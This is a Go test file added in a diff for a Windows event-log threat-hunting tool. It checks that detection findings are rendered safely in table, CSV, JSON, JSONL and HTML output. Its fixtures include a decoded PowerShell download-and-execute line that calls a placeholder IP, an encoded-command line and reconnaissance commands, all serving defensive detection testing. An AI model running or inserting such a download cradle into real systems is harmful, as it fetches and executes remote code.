@@ -1,0 +1,174 @@
+package report
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/evtxhunt/evtxhunt/analyzer/event"
+	"github.com/evtxhunt/evtxhunt/analyzer/findings"
+	"github.com/evtxhunt/evtxhunt/detections/sigma"
+)
+
+// sampleFindings are three findings in two host/user groups, grouped as
+// the table expects, with full context, hostile text, a record read from
+// two files and a long command line.
+func sampleFindings() []findings.Finding {
+	evs := sampleEvents()
+	t0 := evs[0].Timestamp
+	ctx := func(d time.Duration, pid uint64, image, cmd string) findings.ContextEvent {
+		return findings.ContextEvent{Timestamp: t0.Add(d), EventID: 4688, EventRecordID: 900 + pid, ProcessId: pid,
+			ParentProcessId: 0x4d2, Image: image, CommandLine: cmd, User: `CORP\alice`, LogonId: "0x3e7", SourceFile: "logs/Security.evtx"}
+	}
+	a := findings.Finding{
+		ID: "1f2e3d4c5b6a7988", RuleID: "6f0c3a52-0c55-4a8e-9d1b-1f3a0c9d2e11", Title: "Formula in a command line",
+		Level: sigma.High, Tags: []string{"attack.execution", "attack.t1059.003"},
+		Description: "A command line that a spreadsheet would run.", RuleSource: "builtin:execution/formula.yml:1",
+		Event: evs[0], Sources: []string{"logs/Security.evtx", "backup/Security (copy).evtx"},
+		Context: findings.Context{
+			Before: []findings.ContextEvent{ctx(-2*time.Minute, 100, `C:\Windows\System32\net.exe`, "net user")},
+			After: []findings.ContextEvent{ctx(time.Minute, 200, `C:\Windows\System32\whoami.exe`, "whoami /all"),
+				ctx(24*time.Hour, 204, `C:\Windows\System32\cmd.exe`, "cmd /c "+strings.Repeat("x", 150))},
+			Ancestry: []findings.ContextEvent{ctx(-time.Hour, 0x4d2, `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`),
+				{Unknown: true, ProcessId: 600, Image: `C:\Windows\System32\userinit.exe`}},
+			Children:     []findings.ContextEvent{ctx(time.Second, 300, `C:\Windows\System32\conhost.exe`, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`)},
+			MoreChildren: 2,
+		},
+	}
+	a.Event.ParentCommandLine = `C:\Windows\Explorer.EXE`
+	a.Event.Has = a.Event.Has.With(event.FieldParentCommandLine)
+	b := a
+	b.ID, b.RuleID, b.Title, b.Level, b.Tags = "2a3b4c5d6e7f8091", "0b5e6c1e-6f55-4b39-a8a0-5d2b9d3c7a10", "Long command line", sigma.Medium, nil
+	b.Event.CommandLine = "powershell.exe -NoProfile -EncodedCommand " + strings.Repeat("SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", 12)
+	b.Decoded = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
+	b.Sources = []string{"logs/Security.evtx"}
+	c := findings.Finding{
+		ID: "3c4d5e6f708192a3", RuleID: "7c1d2e3f-4a5b-4c6d-8e9f-0a1b2c3d4e5f", Title: "Bidirectional override in an image name",
+		Level: sigma.Critical, Tags: []string{"attack.defense_evasion", "attack.t1036.002"}, RuleSource: "rules/rlo.yml:3",
+		Reason: "the image name holds U+202E", Event: evs[1], Sources: []string{"logs/Sysmon.evtx"},
+		Context: findings.Context{Ancestry: []findings.ContextEvent{{Unknown: true, ProcessId: 4000}}},
+	}
+	return []findings.Finding{a, b, c}
+}
+
+func TestWriteFindingsGolden(t *testing.T) {
+	for _, tt := range []struct {
+		format Format
+		opts   Options
+		name   string
+	}{
+		{Table, Options{}, "findings.table"},
+		{Table, Options{Full: true, Color: true}, "findings-full-color.table"},
+		{Table, Options{Width: 80}, "findings-80.table"},
+		{CSV, Options{}, "findings.csv"},
+		{JSON, Options{}, "findings.json"},
+		{JSONL, Options{}, "findings.jsonl"},
+		{HTML, Options{}, "findings.html"},
+	} {
+		var buf bytes.Buffer
+		if err := WriteFindings(&buf, tt.format, sampleFindings(), tt.opts); err != nil {
+			t.Fatal(err)
+		}
+		golden(t, tt.name, buf.Bytes())
+	}
+	var buf bytes.Buffer
+	if err := WriteContextCSV(&buf, findings.List(sampleFindings()), false); err != nil {
+		t.Fatal(err)
+	}
+	golden(t, "findings-context.csv", buf.Bytes())
+}
+
+func TestWriteFindingsEmpty(t *testing.T) {
+	for _, f := range []Format{Table, CSV, JSON, JSONL, HTML} {
+		var buf bytes.Buffer
+		if err := WriteFindings(&buf, f, nil, Options{}); err != nil {
+			t.Fatal(err)
+		}
+		golden(t, "findings-empty."+string(f), buf.Bytes())
+	}
+}
+
+// TestFindingsTableWidth: without --full no line is wider than the
+// terminal, and nothing from the evidence reaches it raw.
+func TestFindingsTableWidth(t *testing.T) {
+	for _, width := range []int{80, 120, 200} {
+		var buf bytes.Buffer
+		if err := WriteFindings(&buf, Table, sampleFindings(), Options{Width: width}); err != nil {
+			t.Fatal(err)
+		}
+		for i, line := range strings.Split(buf.String(), "\n") {
+			if n := len([]rune(line)); n > width {
+				t.Errorf("width %d, line %d has %d runes: %q", width, i+1, n, line)
+			}
+			if strings.ContainsAny(line, "\x1b\u202e") {
+				t.Errorf("line %d holds a raw escape or bidi control: %q", i+1, line)
+			}
+		}
+	}
+}
+
+// TestFindingsJSONShape: every JSONL line is an object Timesketch takes
+// as it is, with the context parts.
+func TestFindingsJSONShape(t *testing.T) {
+	var buf bytes.Buffer
+	if err := WriteFindings(&buf, JSONL, sampleFindings(), Options{}); err != nil {
+		t.Fatal(err)
+	}
+	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
+	if len(lines) != 3 {
+		t.Fatalf("%d lines", len(lines))
+	}
+	for i, line := range lines {
+		var obj struct {
+			Message, Datetime string
+			TimestampDesc     string `json:"timestamp_desc"`
+			Context           map[string]json.RawMessage
+			Event             event.Process
+		}
+		if err := json.Unmarshal([]byte(line), &obj); err != nil {
+			t.Fatalf("line %d: %v", i+1, err)
+		}
+		if obj.Message == "" || obj.TimestampDesc == "" {
+			t.Errorf("line %d lacks message or timestamp_desc", i+1)
+		}
+		if _, err := time.Parse(time.RFC3339Nano, obj.Datetime); err != nil {
+			t.Errorf("line %d: datetime %q: %v", i+1, obj.Datetime, err)
+		}
+		for _, part := range []string{"before", "after", "ancestry", "children"} {
+			if _, ok := obj.Context[part]; !ok {
+				t.Errorf("line %d: context has no %q", i+1, part)
+			}
+		}
+	}
+}
+
+func TestContextCSVKeys(t *testing.T) {
+	var buf bytes.Buffer
+	fs := sampleFindings()
+	if err := WriteContextCSV(&buf, findings.List(fs), true); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := 1 // header
+	for i := range fs {
+		want += len(fs[i].Context.Rows())
+	}
+	if len(rows) != want {
+		t.Fatalf("%d rows, want %d", len(rows), want)
+	}
+	ids := map[string]bool{}
+	for _, f := range fs {
+		ids[f.ID] = true
+	}
+	for _, r := range rows[1:] {
+		if !ids[r[0]] || len(r) != len(ContextColumns) {
+			t.Errorf("row %q", r)
+		}
+	}
+}
